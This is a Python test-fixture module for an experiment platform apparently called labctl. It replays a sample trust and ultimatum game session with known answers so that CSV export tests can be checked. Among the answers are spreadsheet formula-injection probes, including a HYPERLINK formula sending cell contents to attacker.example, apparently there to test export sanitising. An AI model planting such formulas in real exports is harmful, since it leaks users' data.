"""The sample session played with known answers: what the export tests compare cells with.

A module of its own (not ``conftest``) so that tests can import it by a name no other test
folder uses.
"""

from __future__ import annotations

import sqlite3
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from labctl.engine import Engine
from labctl.project import Project
from labctl.storage.sqlite import SqliteStore

#: 2023-11-14 22:13:20 UTC
START = 1_700_000_000.0

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your bonus")'
UNICODE = "Économie \u2013 経済学, «naïve» 😀"
MULTILINE = 'psychology, "social"\nsecond line'


class FakeClock:
    def __init__(self, now: float = START) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


@dataclass
class Answers:
    """What the sample session's participants submit (amounts in cents), by id_in_session."""

    sent: dict[int, int] = field(default_factory=lambda: {1: 400, 3: 1000})
    sent_back: dict[int, int] = field(default_factory=lambda: {2: 500, 4: 0})
    field_of_study: dict[int, str] = field(default_factory=lambda: {
        1: HYPERLINK, 2: UNICODE, 3: MULTILINE, 4: "-5 is a negative answer"})
    comments: dict[int, str | None] = field(default_factory=lambda: {
        1: None, 2: "@SUM(A1:A9)", 3: "+1 555 0100", 4: "fine"})
    gender: dict[int, str] = field(default_factory=lambda: {
        1: "female", 2: "male", 3: "diverse", 4: "no_answer"})

    @staticmethod
    def offer(me: int, round_number: int) -> int:
        return 100 * me + 50 * round_number

    @staticmethod
    def accepts(me: int, round_number: int) -> bool:
        return (me + round_number) % 2 == 1

    @staticmethod
    def age(me: int) -> int:
        return 20 + me

    @staticmethod
    def seconds(me: int, step: int) -> float:
        """How long participant ``me`` spends on the page at ``step`` before submitting."""
        return 1.25 * me + 0.5 * step

    def form(self, me: int, page: str, round_number: int) -> dict[str, str]:
        def cents(amount: int) -> str:
            return f"{amount // 100}.{amount % 100:02d}"

        return {
            "Send": lambda: {"sent_amount": cents(self.sent[me])},
            "SendBack": lambda: {"sent_back_amount": cents(self.sent_back[me])},
            "Offer": lambda: {"amount_offered": cents(self.offer(me, round_number))},
            "Respond": lambda: {"offer_accepted": "1" if self.accepts(me, round_number)
                                else "0"},
            "Results": dict,
            "Demographics": lambda: {"age": str(self.age(me)), "gender": self.gender[me],
                                     "field_of_study": self.field_of_study[me]},
            "Opinions": lambda: {"trust_general": str(me),
                                 "comments": self.comments[me] or ""},
        }[page]()


@dataclass
class Played:
    """A played sample session and its database."""

    project_dir: Path
    db: Path
    project: Project
    store: SqliteStore
    engine: Engine
    code: str
    running_code: str
    idle_code: str
    answers: Answers

    def rows(self, sql: str, *params: Any) -> list[dict[str, Any]]:
        """Read the database through a connection of its own: only committed data."""
        conn = sqlite3.connect(self.db)
        conn.row_factory = sqlite3.Row
        try:
            return [dict(row) for row in conn.execute(sql, params).fetchall()]
        finally:
            conn.close()

    def groups(self, app: str, round_number: int) -> list[list[int]]:
        """The groups of a round as lists of id_in_session in id_in_group order."""
        rows = self.rows(
            f'SELECT g.id_in_subsession AS grp, pa.id_in_session AS me FROM "{app}_player" pl '
            f'JOIN "{app}_group" g ON g.id = pl.group_id JOIN participants pa '
            f"ON pa.id = pl.participant_id WHERE pl.session_code = ? AND pl.round_number = ? "
            f"ORDER BY g.id_in_subsession, pl.id_in_group", self.code, round_number)
        found: dict[int, list[int]] = {}
        for row in rows:
            found.setdefault(row["grp"], []).append(row["me"])
        return list(found.values())

    def trust_payoffs(self) -> dict[int, int]:
        payoffs = {}
        for trustor, trustee in self.groups("trust", 1):
            sent, back = self.answers.sent[trustor], self.answers.sent_back[trustee]
            payoffs[trustor] = 1000 - sent + back
            payoffs[trustee] = 1000 + 3 * sent - back
        return payoffs

    def ultimatum_payoffs(self, round_number: int) -> dict[int, int]:
        payoffs = {}
        for proposer, responder in self.groups("ultimatum", round_number):
            offered = self.answers.offer(proposer, round_number)
            accepted = self.answers.accepts(responder, round_number)
            payoffs[proposer] = 1000 - offered if accepted else 0
            payoffs[responder] = offered if accepted else 0
        return payoffs


def play(engine: Engine, clock: FakeClock | None, session_code: str, answers: Answers,
         only: list[int] | None = None) -> None:
    """Each participant in turn submits their page until none can; with a fake clock, after
    ``answers.seconds`` on it."""
    people = {row["id_in_session"]: row["code"] for row in engine.participant_rows(session_code)}
    for _ in range(60):
        moved = False
        for me, code in people.items():
            if only is not None and me not in only:
                continue
            with engine.view(code) as view:
                kind, index = view.kind, view.index
                page = view.step.name if view.step else ""
                round_number = view.step.round_number if view.step else 0
            if kind != "page":
                continue
            if clock is not None:
                clock.now += answers.seconds(me, index)
            result = engine.submit(code, index, answers.form(me, page, round_number))
            assert result.status == "advanced", (me, page, result)
            moved = True
        if not moved:
            return
    raise AssertionError("the session did not finish")



#: the shared-data files every CSV export ends with, in this order
SHARED_FILES = ["batch_data.csv", "group_data.csv", "study_data.csv", "shared_documents.csv",
                "shared_messages.csv"]
